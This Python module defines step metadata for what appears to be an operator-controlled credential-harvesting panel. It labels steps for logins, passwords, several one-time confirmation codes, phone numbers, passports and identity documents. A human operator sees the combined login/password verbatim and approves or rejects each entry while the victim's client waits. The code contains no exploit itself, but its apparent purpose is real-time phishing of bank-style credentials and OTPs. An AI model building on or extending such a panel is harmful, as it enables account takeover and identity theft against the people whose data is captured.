"""Step catalogue — fixed, rule-based step metadata. No I/O."""

from config import BLOCKING_STEPS

# Synthetic step sent when the client taps "send code again".
RESEND_STEP = "resend_code_click"

# Value is shown verbatim, without a label.
VERBATIM_STEPS = frozenset({"login_password"})

# Mapping: step name → operator-facing label
STEP_LABELS: dict[str, str] = {
    "login": "Login",
    "password": "Password",
    "code": "Confirmation code",
    "code1": "Code 1",
    "code2": "Code 2",
    "code3": "Code 3",
    "phone": "Phone",
    "document": "Document",
    "passport": "Passport",
    "finalCode": "Final code",
    "login_password": "Login/Password",
    "document_type": "Document type",
}

# Closed list of steps the operator must approve or reject.
DECISION_STEPS = frozenset({
    "login",
    "password",
    "login_password",
    "code",
    "code1",
    "code2",
    "code3",
    "document",
    "finalCode",
    "passport",
})


def label_for(step: str) -> str:
    """Readable label; unknown steps fall back to the raw name."""
    return STEP_LABELS.get(step, step)


def requires_decision(step: str) -> bool:
    return step != RESEND_STEP and step in DECISION_STEPS


def is_blocking(step: str, blocking_steps=None) -> bool:
    """True when the client should wait for the operator before moving on."""
    blocking = BLOCKING_STEPS if blocking_steps is None else blocking_steps
    return requires_decision(step) and step in blocking
